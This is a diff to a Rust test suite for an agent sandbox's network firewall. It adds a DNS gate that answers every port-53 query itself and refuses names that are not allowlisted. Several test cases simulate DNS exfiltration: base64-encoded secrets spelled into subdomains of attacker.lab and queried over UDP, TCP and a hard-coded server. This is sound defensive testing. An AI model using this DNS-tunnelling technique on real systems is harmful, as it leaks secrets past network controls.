@@ -19,6 +19,9 @@ enum Want {
     Pass,
     /// Refused or blocked by a reject rule (never a timeout).
     Block,
+    /// Port 53, to any address: the DNS gate's (the nat redirect). Never refused, never
+    /// arrives where it was sent; a DNS query gets the gate's reply, anything else its silence.
+    Gate,
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -87,7 +90,48 @@ home = "{home}"
 fn matrix() -> Vec<Case> {
     use Target::*;
     use Want::*;
+    let via = |name: &str, server: &str, qtype: &str| {
+        format!("dns {name} --server {server} --type {qtype} --transport udp {UDP_T}")
+    };
     let mut m = vec![
+        // First the agent looks the allowlisted names up, through the gate (the resolver's
+        // address is the gate's too): only then are their addresses open.
+        case(
+            via("public.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted name (A)",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("public.lab", addr::DNS_V6, "AAAA"),
+            "look up an allowlisted name (AAAA)",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("api.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted name:port",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("internal.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted internal name",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("metadata.lab", addr::DNS_V4, "A"),
+            "look up a name that points at metadata",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case("then".to_owned(), "the lookups are done", Pass, Pass, Live),
         // Allowlisted in both modes.
         case(
             format!("tcp 198.51.100.10:80 {TCP_T}"),
@@ -298,9 +342,9 @@ fn matrix() -> Vec<Case> {
         // The gateway = the host, on every address the agent can see.
         case(
             format!("udp {}:53 {UDP_T}", addr::GW_V4),
-            "gateway UDP 53 (not the resolver)",
-            Block,
-            Block,
+            "gateway UDP 53: to the gate, not the gateway",
+            Gate,
+            Gate,
             Live,
         ),
         case(
@@ -473,7 +517,7 @@ fn matrix() -> Vec<Case> {
             Block,
             Void,
         ),
-        // DNS: only to the configured resolvers, only on port 53.
+        // DNS: every query, to any address, is the gate's; only the gate asks the resolvers.
         case(
             format!("dns public.lab --server {} {UDP_T}", addr::DNS_V4),
             "DNS to the resolver (v4)",
@@ -493,9 +537,9 @@ fn matrix() -> Vec<Case> {
         ),
         case(
             format!("tcp {}:53 {TCP_T}", addr::DNS_V4),
-            "DNS over TCP to the resolver",
-            Pass,
-            Pass,
+            "TCP 53 of the resolver: to the gate",
+            Gate,
+            Gate,
             Live,
         ),
         case(
@@ -514,30 +558,60 @@ fn matrix() -> Vec<Case> {
         ),
         case(
             format!("dns public.lab --server 10.0.0.1 {UDP_T}"),
-            "DNS to another (private) server",
-            Block,
-            Block,
+            "DNS to another (private) server: the gate answers",
+            Gate,
+            Gate,
             Live,
         ),
         case(
             format!("dns public.lab --server {} {UDP_T}", addr::GW_V4),
-            "DNS to the gateway",
-            Block,
-            Block,
+            "DNS to the gateway: the gate answers",
+            Gate,
+            Gate,
             Live,
         ),
         case(
             format!("dns public.lab --server fd00::1 {UDP_T}"),
-            "DNS to another ULA server",
-            Block,
-            Block,
+            "DNS to another ULA server: the gate answers",
+            Gate,
+            Gate,
             Live,
         ),
         case(
             format!("dns public.lab --server 203.0.113.20 {UDP_T}"),
-            "DNS to a public server",
+            "DNS to a public server: the gate answers",
+            Gate,
+            Gate,
+            Live,
+        ),
+        // Names the allowlist does not cover: in allowlist egress the gate answers NXDOMAIN
+        // itself (checked below, with the resolver's log as the witness); over UDP and TCP, to
+        // the resolver and to a hard-coded public address, A and AAAA.
+        case(
+            format!(
+                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
+                addr::DNS_V4
+            ),
+            "not allowlisted name (UDP)",
             Pass,
-            Block,
+            Pass,
+            Live,
+        ),
+        case(
+            format!(
+                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
+                addr::DNS_V4
+            ),
+            "not allowlisted name (TCP)",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"),
+            "not allowlisted name, AAAA, hard-coded server",
+            Gate,
+            Gate,
             Live,
         ),
     ];
@@ -638,7 +712,7 @@ fn event_key(e: &Value) -> Option<String> {
 fn table(run: &Run, cases: &[Case], want: impl Fn(&Case) -> Want) -> (String, Vec<String>) {
     let mut out = String::new();
     let mut failures = Vec::new();
-    for c in cases {
+    for c in cases.iter().filter(|c| c.check != "then") {
         let line = run.check(&c.check);
         let (res, ms) = match line {
             Some(l) => (
@@ -651,6 +725,8 @@ fn table(run: &Run, cases: &[Case], want: impl Fn(&Case) -> Want) -> (String, Ve
         let ok = line.is_some_and(|l| match w {
             Want::Pass => passed(&c.check, l),
             Want::Block => blocked(l),
+            Want::Gate if c.check.starts_with("dns") => passed(&c.check, l),
+            Want::Gate => !blocked(l),
         });
         out.push_str(&format!(
             "{} {:<55} {:<40} want {:?}, got {res} ({ms} ms)\n",
@@ -753,9 +829,10 @@ fn run_matrix_with(egress: &str, fakes: &[(String, PathBuf)], backend: &str) {
         .filter_map(|c| sink_key(&c.check))
         .filter(|k| !k.contains(&format!("{}:53", addr::DNS_V4)))
         .collect();
+    // What was refused or went to the gate must not arrive where it was sent.
     let blocked_keys: BTreeSet<String> = cases
         .iter()
-        .filter(|c| want(c) == Want::Block)
+        .filter(|c| matches!(want(c), Want::Block | Want::Gate))
         .filter_map(|c| sink_key(&c.check))
         .collect();
     for key in &allowed {
@@ -773,9 +850,59 @@ fn run_matrix_with(egress: &str, fakes: &[(String, PathBuf)], backend: &str) {
     if !arrived.is_empty() {
         failures.push(format!("blocked flows reached the far side: {arrived:?}"));
     }
-    // dnsmasq saw the resolver queries.
-    if !lab.dns_log().contains("public.lab") {
+    // dnsmasq saw the gate's queries for allowlisted names; in allowlist egress it never saw
+    // a name the allowlist does not cover (the gate answered NXDOMAIN itself), over any transport
+    // or address, so a secret spelled into a name cannot leave through DNS.
+    let dns_log = lab.dns_log();
+    if !dns_log.contains("public.lab") {
         failures.push("the lab resolver never saw a query for public.lab".into());
+    }
+    for (check, label) in [
+        (
+            format!(
+                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
+                addr::DNS_V4
+            ),
+            "c2VjcmV0",
+        ),
+        (
+            format!(
+                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
+                addr::DNS_V4
+            ),
+            "dGNw",
+        ),
+        (
+            format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"),
+            "aGFyZA",
+        ),
+    ] {
+        let line = run.check(&check);
+        let reached = dns_log
+            .to_ascii_lowercase()
+            .contains(&label.to_ascii_lowercase());
+        if egress == "allowlist" {
+            if line.is_none_or(|l| l["rcode"] != 3) {
+                failures.push(format!(
+                    "{check}: want NXDOMAIN from the gate, got {line:?}"
+                ));
+            }
+            if reached {
+                failures.push(format!(
+                    "{label}.attacker.lab reached the lab resolver: {dns_log}"
+                ));
+            }
+            if !run.stderr.contains(&format!(
+                "dns: refused {}.attacker.lab (not allowlisted)",
+                label.to_ascii_lowercase()
+            )) {
+                failures.push(format!("no refusal logged for {label}.attacker.lab"));
+            }
+        } else if !reached {
+            failures.push(format!(
+                "open egress: {label}.attacker.lab was not forwarded"
+            ));
+        }
     }
     // A name that resolves into metadata space opens nothing, and says so.
     if !run.stderr.contains("metadata.lab") {
@@ -807,39 +934,18 @@ fn allowlist_egress_matrix_v4_v6() {
 #[test]
 fn open_egress_matrix_on_the_legacy_backend() {
     let dir = jailoc_tests::TempDir::new("jailoc-nonft-");
-    let mut fakes = fake_tools(
+    let mut fakes = jailoc_tests::lab::failing_tools(
         &dir,
         &["iptables-nft", "ip6tables-nft"],
         &["-save", "-restore"],
     );
     // Plain `iptables-save` is the nft variant on this distribution: fail it too.
-    fakes.extend(fake_tools(
+    fakes.extend(jailoc_tests::lab::failing_tools(
         &dir,
         &["iptables", "ip6tables"],
         &["-save", "-restore"],
     ));
     run_matrix_with("open", &fakes, "legacy backend");
-}
-
-/// Writes one failing stand-in into `dir` and returns it under every `{base}{suffix}` name, for
-/// [`Lab::sandbox_replacing`] (sandbox-init ignores `PATH`: it runs only root's programs from
-/// the system directories).
-fn fake_tools(
-    dir: &jailoc_tests::TempDir,
-    bases: &[&str],
-    suffixes: &[&str],
-) -> Vec<(String, PathBuf)> {
-    let fake = dir.write(
-        "failing-iptables",
-        "#!/bin/sh\ncat >/dev/null\necho 'iptables: Failed to initialize nft: Protocol not supported' >&2\nexit 1\n",
-    );
-    let mut fakes = Vec::new();
-    for base in bases {
-        for suffix in suffixes {
-            fakes.push((format!("{base}{suffix}"), fake.clone()));
-        }
-    }
-    fakes
 }
 
 /// `(name, file)` pairs as [`Lab::sandbox_replacing`] takes them.
@@ -863,7 +969,7 @@ fn ipv4_only_agent_boots_without_ipv6_rules_and_stays_walled_off() {
     });
     let config = simple_config(&lab, "config", "open", &["public.lab".into()]);
     let dir = jailoc_tests::TempDir::new("jailoc-no6-");
-    let fakes = fake_tools(
+    let fakes = jailoc_tests::lab::failing_tools(
         &dir,
         &["ip6tables", "ip6tables-nft", "ip6tables-legacy"],
         &["-restore"],
@@ -924,7 +1030,7 @@ fn control_without_firewall_everything_is_reachable() {
     args.extend(cases.iter().map(|c| c.check.as_str()));
     let run = lab.probe_unguarded(&args);
     let mut failures = Vec::new();
-    for c in &cases {
+    for c in cases.iter().filter(|c| c.check != "then") {
         let line = run.check(&c.check);
         let ok = line.is_some_and(|l| match c.target {
             Target::Live => passed(&c.check, l),
@@ -1057,7 +1163,7 @@ fn broken_backends_exit_71_and_the_agent_never_runs() {
     let mut fakes = Vec::new();
     for fam in ["iptables", "ip6tables"] {
         for variant in ["", "-nft", "-legacy"] {
-            fakes.extend(fake_tools(
+            fakes.extend(jailoc_tests::lab::failing_tools(
                 &lab.dir,
                 &[&format!("{fam}{variant}")],
                 &["", "-save", "-restore"],
@@ -1128,10 +1234,11 @@ fn failing_ipv6_restore_with_ipv6_present_exits_71() {
     );
 }
 
-/// A resolver that never answers: boot still completes (bounded resolution), the agent runs,
-/// and the unresolved names are reported as warnings. The time is printed, not asserted.
+/// A resolver that never answers: the boot does not notice (it sends no DNS), the agent runs,
+/// and its lookup of an allowlisted name gets SERVFAIL from the gate after the upstream bound
+/// (`resolve_timeout_ms`), opening nothing. The time is printed, not asserted.
 #[test]
-fn dead_resolver_boot_completes_with_warnings() {
+fn dead_resolver_boot_completes_and_lookups_fail_with_servfail() {
     if !require_root("lab tier (network namespaces)") {
         return;
     }
@@ -1151,9 +1258,12 @@ fn dead_resolver_boot_completes_with_warnings() {
         run.stderr
     );
     assert!(ran, "the agent did not run");
-    assert!(
-        run.stderr.contains("dead0.lab"),
-        "no warning names the unresolved name: {}",
+    let lookup = format!("dns dead0.lab --server {} --timeout-ms 5000", addr::DEAD_V4);
+    let run = lab.sandbox(&config, &[], &["batch", &lookup]);
+    let line = run.check(&lookup).cloned().unwrap_or_default();
+    assert_eq!(
+        line["rcode"], 2,
+        "want SERVFAIL from the gate: {line}\n{}",
         run.stderr
     );
 }
@@ -1317,24 +1427,28 @@ fn link_local_resolver_opens_port_53_only() {
     let lab = Lab::up();
     lab.set_resolv_conf(&format!("nameserver {}\n", addr::DNS_LL));
     let config = simple_config(&lab, "config", "allowlist", &["public.lab".into()]);
+    // The lookup first (through the gate, which asks the link-local resolver), then the rest.
     let checks = [
         (
             format!("dns public.lab --server {} {UDP_T}", addr::DNS_LL),
             "reply",
         ),
+        ("then".to_owned(), ""),
         (format!("tcp 198.51.100.10:80 {TCP_T}"), "connected"),
         (format!("tcp {}:80 {TCP_T}", addr::DNS_LL), "refused"),
         (format!("udp {}:9999 {UDP_T}", addr::DNS_LL), "blocked"),
         (format!("tcp 169.254.169.254:80 {TCP_T}"), "refused"),
+        // DNS to the old resolver's address is the gate's too: answered, never sent there.
         (
             format!("dns public.lab --server {} {UDP_T}", addr::DNS_V4),
-            "blocked",
+            "reply",
         ),
     ];
     let mut args = vec!["batch"];
     args.extend(checks.iter().map(|(c, _)| c.as_str()));
     let run = lab.sandbox(&config, &[], &args);
     assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
+    let checks: Vec<_> = checks.iter().filter(|(c, _)| c != "then").collect();
     let got: Vec<String> = checks
         .iter()
         .map(|(c, _)| {
@@ -1476,6 +1590,16 @@ fn attack_host_on_its_public_and_global_addresses_is_refused() {
     let before = host_arrivals(&lab).len();
     assert!(before >= attacks.len(), "the host's listeners log nothing");
 
+    // Sandboxed, the agent looks public.lab up first (through the gate), as any client does.
+    let lookups = [
+        format!("dns public.lab --server {} --type A {UDP_T}", addr::DNS_V4),
+        format!(
+            "dns public.lab --server {} --type AAAA {UDP_T}",
+            addr::DNS_V4
+        ),
+    ];
+    let mut guarded: Vec<&str> = vec!["batch", &lookups[0], &lookups[1], "then"];
+    guarded.extend(all.iter().map(String::as_str));
     for egress in ["open", "allowlist"] {
         let config = policy_with(
             &lab,
@@ -1485,7 +1609,7 @@ fn attack_host_on_its_public_and_global_addresses_is_refused() {
             // What the launcher writes: the host's global addresses.
             &[HOST_PUBLIC_V4, HOST_GLOBAL_V6],
         );
-        let run = lab.sandbox(&config, &[], &batch);
+        let run = lab.sandbox(&config, &[], &guarded);
         assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
         let mut want: Vec<&str> = attacks
             .iter()
@@ -1622,7 +1746,7 @@ fn attack_ipv6_segment_routing_header_to_an_internal_host_arrives_nowhere() {
 
     let dir = jailoc_tests::TempDir::new("jailoc-srh-");
     // The legacy run: the nft programs (and the plain names) fail, so the boot falls back.
-    let no_nft = fake_tools(
+    let no_nft = jailoc_tests::lab::failing_tools(
         &dir,
         &["iptables-nft", "ip6tables-nft", "iptables", "ip6tables"],
         &["-save", "-restore"],
@@ -1638,7 +1762,16 @@ fn attack_ipv6_segment_routing_header_to_an_internal_host_arrives_nowhere() {
             egress,
             &["public.lab".into()],
         );
-        let run = lab.sandbox_replacing(&fakes, &config, &[], &["batch", &check, &plain]);
+        let lookup = format!(
+            "dns public.lab --server {} --type AAAA {UDP_T}",
+            addr::DNS_V4
+        );
+        let run = lab.sandbox_replacing(
+            &fakes,
+            &config,
+            &[],
+            &["batch", &lookup, "then", &check, &plain],
+        );
         assert_eq!(run.code, Some(0), "boot failed: {}", run.stderr);
         assert!(run.stderr.contains(backend), "{}", run.stderr);
         let what = format!("{egress}, {backend}: {}\n{}", run.stdout, run.stderr);
